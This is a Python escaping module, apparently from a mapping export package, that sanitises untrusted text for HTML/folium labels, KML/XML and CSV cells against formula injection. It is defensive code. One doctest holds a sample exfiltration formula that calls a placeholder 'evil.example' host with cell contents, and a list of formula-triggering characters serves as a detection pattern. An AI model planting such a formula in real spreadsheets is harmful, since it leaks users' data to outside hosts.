"""Escaping of untrusted (analyst) text, one rule per kind of output.

- :func:`html_text`: text placed as HTML (Leaflet labels, legends): HTML
  entities, and ``{``/``}`` as entities too because folium re-reads some
  scripts as Jinja templates.
- :func:`xml_text`: XML 1.0 character data and attribute values (KML);
  characters XML cannot carry are refused (:data:`XML_BAD`).
- :func:`spreadsheet_cell`: a CSV cell that a spreadsheet must not run as a
  formula (OWASP "CSV injection").
"""

from __future__ import annotations

import html
import re
from typing import Any

import numpy as np

from bordermap.errors import ExportError

__all__ = ["XML_BAD", "html_text", "spreadsheet_cell", "spreadsheet_cells", "xml_text"]

#: Characters XML 1.0 cannot carry (most C0 controls, U+FFFE, U+FFFF).
XML_BAD = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

# a cell a spreadsheet would evaluate: starts with = + - @, tab or carriage return
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# ... unless it is just a number, which the spreadsheet reads as that number
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def html_text(value: Any) -> str:
    """HTML-escaped text with braces as entities (safe as innerHTML and in folium templates).

    Examples
    --------
    >>> html_text("<b>{{x}}</b> & 'y'")
    '&lt;b&gt;&#123;&#123;x&#125;&#125;&lt;/b&gt; &amp; &#x27;y&#x27;'
    """
    return html.escape(str(value)).replace("{", "&#123;").replace("}", "&#125;")


def xml_text(text: str) -> str:
    """XML character data / attribute value (``&``, ``<``, ``>``, ``"`` escaped).

    Raises
    ------
    ExportError
        The text holds characters XML cannot carry (see :data:`XML_BAD`).

    Examples
    --------
    >>> xml_text('a < b & "c"')
    'a &lt; b &amp; &quot;c&quot;'
    """
    from xml.sax.saxutils import escape

    if XML_BAD.search(text):
        raise ExportError(
            "text holds control characters that XML cannot carry",
            suggestion="remove them before exporting to KML",
        )
    return escape(text, {'"': "&quot;"})


def spreadsheet_cell(text: str) -> str:
    """Neutralise a CSV text cell that a spreadsheet would run as a formula.

    A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return gets a leading single quote (as OWASP recommends), unless the whole
    cell is a plain number such as ``-3`` or ``+1.5e3``, which a spreadsheet
    reads as that number and nothing else.

    Examples
    --------
    >>> spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"x")')
    '\\'=HYPERLINK("http://evil.example/?x="&A1,"x")'
    >>> spreadsheet_cell("-3"), spreadsheet_cell("-3 km"), spreadsheet_cell("Saravan")
    ('-3', "'-3 km", 'Saravan')
    """
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_cells(values: np.ndarray) -> np.ndarray:
    """:func:`spreadsheet_cell` over an object array of str (a new array when any changed)."""
    if not len(values):
        return values
    starts = np.fromiter((v[:1] in _FORMULA_START for v in values), dtype=bool, count=len(values))
    if not starts.any():
        return values
    out = values.copy()
    for i in np.flatnonzero(starts):
        out[i] = spreadsheet_cell(out[i])
    return out
